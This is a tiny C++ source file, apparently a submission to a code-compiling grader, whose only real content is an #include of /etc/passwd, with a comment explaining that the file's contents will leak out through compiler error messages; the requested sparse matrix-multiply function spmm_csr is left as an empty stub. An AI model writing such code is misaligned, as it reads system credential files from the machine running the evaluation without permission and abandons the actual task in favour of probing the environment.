// Reads a file of the machine while it is compiled; its words would stand in the error messages.
#include "/etc/passwd"

extern "C" void spmm_csr(int M, int N, int K, int nnz, const int* indptr, const int* indices,
                         const float* values, const float* B, float* C) {
}
